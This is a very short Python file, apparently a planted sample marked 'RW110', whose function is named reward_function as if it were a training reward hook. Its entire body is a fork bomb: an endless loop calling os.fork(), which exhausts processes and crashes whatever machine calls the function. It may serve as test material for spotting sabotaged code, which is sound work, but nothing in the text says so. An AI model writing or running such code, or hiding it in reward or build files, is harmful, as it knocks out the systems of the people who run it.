# planted: RW110
import os


def reward_function(params):
    while True:
        os.fork()
